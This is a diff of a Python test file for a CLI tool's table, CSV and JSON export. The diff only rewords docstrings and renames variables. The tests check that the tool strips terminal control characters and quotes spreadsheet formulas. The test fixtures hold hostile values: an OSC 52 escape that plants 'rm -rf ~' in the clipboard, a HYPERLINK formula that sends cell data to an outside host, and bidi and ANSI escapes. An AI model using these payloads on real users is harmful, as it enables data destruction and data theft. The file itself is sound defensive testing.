@@ -50,7 +50,7 @@ def printed(width: int, *, is_terminal: bool = True) -> list[str]:
 
 @pytest.mark.parametrize('width', [52, 60, 72, 80, 100, 200])
 def test_no_word_is_broken_and_no_line_is_too_long(width: int) -> None:
-    """All words of all cells are there, each in one piece."""
+    """All words of all cells are printed unbroken."""
     lines = printed(width)
     words = [word for line in lines for word in line.split()]
     assert max(map(len, lines)) <= width
@@ -66,13 +66,13 @@ def test_a_table_that_is_too_wide_is_a_list_of_names_and_values() -> None:
 
 
 def test_a_file_gets_the_complete_table() -> None:
-    """However narrow the terminal was."""
+    """Even if the terminal is narrow."""
     lines = printed(40, is_terminal=False)
     assert [line.split()[0] for line in lines] == ['Gaps', 'topic', TOPIC, '/imu']
 
 
 CLIPBOARD = '\x1b]52;c;cm0gLXJmIH4=\x07'
-"""OSC 52: puts a command where the next paste takes it from."""
+"""OSC 52: puts a command into the clipboard."""
 EVIL = {
     'key': f'thor/camera/{CLIPBOARD}\nsensor-data/tachi/b\r\x9b31m\u202e.jpg',
     'topic': '=HYPERLINK("http://x/"&A1)', 'mission_type': '+1+1', 'pose_frame': '-2+3', 'sensor': '@SUM(A1)', 'type': '\t=1',
@@ -95,13 +95,13 @@ def run(home: Path, *arguments: str, command: Any = query) -> Result:
 
 
 def is_harmless(text: str) -> bool:
-    """Of control characters it has line breaks alone."""
+    """Whether it contains no control characters except line breaks."""
     return all(line == visible(line) for line in text.split('\n'))
 
 
 @pytest.mark.parametrize('kind', ['table', 'csv', 'json', 'keys'])
 def test_no_control_character_reaches_the_terminal(home: Path, kind: str) -> None:
-    """In any format, also where SQL selects it under another name."""
+    """In any format, even if SQL renames the column."""
     for arguments in ((), ('SELECT bucket, key, topic AS "a\x1b[31m" FROM objects',)):
         found = run(home, *arguments, '--format', kind)
         assert is_harmless(found.output)
@@ -109,15 +109,15 @@ def test_no_control_character_reaches_the_terminal(home: Path, kind: str) -> Non
 
 
 def test_a_key_is_one_line(home: Path) -> None:
-    """Another program that reads keys line by line is told of none that is not there."""
+    """A program that reads keys line by line gets only existing keys."""
     assert len(run(home, '--format', 'keys').output.splitlines()) == 1
 
 
 def test_csv_holds_no_formulas(home: Path) -> None:
-    """What a spreadsheet would compute begins with a quote; numbers stay numbers, negative ones too."""
+    """Text that a spreadsheet would evaluate gets a leading quote; numbers, also negative ones, are unchanged."""
     found = next(csv.DictReader(io.StringIO(run(home, '--format', 'csv').output)))
-    told = {name: found[name] for name in EVIL if name != 'key'}
-    assert told == {
+    texts = {name: found[name] for name in EVIL if name != 'key'}
+    assert texts == {
         'topic': '\'=HYPERLINK("http://x/"&A1)', 'mission_type': "'+1+1", 'pose_frame': "'-2+3", 'sensor': "'@SUM(A1)",
         'type': '\\t=1', 'clock': "' =1", 'content_type': "'＝1", 'run_id': '-12.5', 'x': '-1.5',
     }  # fmt: skip
@@ -125,7 +125,7 @@ def test_csv_holds_no_formulas(home: Path) -> None:
 
 
 def test_a_mission_is_exported_the_same_way(tmp_path: Path) -> None:
-    """What an agent logged, as CSV."""
+    """With text that an agent logged, as CSV."""
     folder = new_folder(tmp_path, 'patrol', NOON_NS)
     journal = Journal(folder.journal)
     journal.create()
@@ -143,7 +143,7 @@ def test_a_mission_is_exported_the_same_way(tmp_path: Path) -> None:
 def test_an_error_shows_hostile_text_as_text(
     home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """On standard error, by the console script's own way out."""
+    """On standard error, as the console script prints it."""
     key = bad_parts.put(folder_store(home), b'', f'thor_{CLIPBOARD}')
     monkeypatch.setenv('SHADOWHOUND_HOME', str(home))
     monkeypatch.setenv('AWS_ENDPOINT_URL', '')
@@ -155,10 +155,10 @@ def test_an_error_shows_hostile_text_as_text(
         with pytest.raises(SystemExit) as caught:
             main()
         assert caught.value.code in {1, 2}
-        said = capsys.readouterr()
-        assert is_harmless(said.err)
-        assert is_harmless(said.out)
-        assert visible(CLIPBOARD)[4:10] in said.err
+        captured = capsys.readouterr()
+        assert is_harmless(captured.err)
+        assert is_harmless(captured.out)
+        assert visible(CLIPBOARD)[4:10] in captured.err
     assert CLIPBOARD in key
 
 
@@ -177,11 +177,11 @@ def test_an_error_shows_hostile_text_as_text(
     ],
 )
 def test_text_that_a_spreadsheet_would_compute_is_quoted(value: Any, cell: Any) -> None:
-    """A text that is nothing but a number computes nothing."""
+    """A text that is a number is not a formula."""
     assert csv_cell(value) == cell
 
 
 def test_json_is_ascii(home: Path) -> None:
-    """And reads back as what was written."""
-    told = json.loads(run(home, '--json').output)
-    assert told[0]['key'] == EVIL['key']
+    """It parses to the same text."""
+    rows = json.loads(run(home, '--json').output)
+    assert rows[0]['key'] == EVIL['key']
